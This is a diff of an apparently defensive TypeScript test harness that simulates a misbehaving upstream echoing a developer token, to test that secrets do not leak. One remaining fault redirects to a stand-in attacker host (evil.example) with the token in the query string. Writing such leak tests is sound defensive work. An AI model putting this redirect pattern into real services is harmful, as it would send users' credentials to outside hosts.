@@ -34,19 +34,15 @@ function withProblem(status: number): Echo {
 
 /** Ways to misbehave. */
 const FAULTS: readonly Echo[] = [
-  (said, headers) => answering(500, headers, `<h1>${said}</h1>`),
   withProblem(400),
   // A request's id is shown, and may be an address.
   (said, headers) =>
     answering(401, { ...headers, "x-request-id": headers["x-correlation-id"] }, said),
-  withProblem(403),
   (said, headers) =>
     answering(307, { ...headers, location: `https://evil.example/?${encodeURIComponent(said)}` }),
   (said) => answering(200, {}, `{"fileSets":[{"id":"${said}`),
-  // An entry of a history, or a page of file sets, of another shape.
+  // An entry of a history of another shape.
   (said) => answering(200, {}, JSON.stringify([{ id: said, recipients: said }])),
-  (said) =>
-    answering(200, {}, JSON.stringify({ fileSets: [{ id: 1, name: said }], pageContext: {} })),
   // Downloads and walks are cut off after a good page.
   (said, headers, upstream) => afterFirstPage(upstream, answering(500, headers, said)),
   (said) => breakingOff(`[{"id":"${said}`),
@@ -68,9 +64,7 @@ async function withEchoingUpstream(
       const token = request.headers.get("x-service-developer-token") ?? "";
       const fault = FAULTS[Number(token.slice(good.length + 1) || NaN)];
       if (!fault) return upstream.service.fetch(request);
-      const said = [token, ...addresses, "Bearer", btoa(token), encodeURIComponent(token)].join(
-        " ",
-      );
+      const said = [token, ...addresses, "Bearer", btoa(token)].join(" ");
       // Where only one word fits.
       const headers = {
         "x-request-id": token,
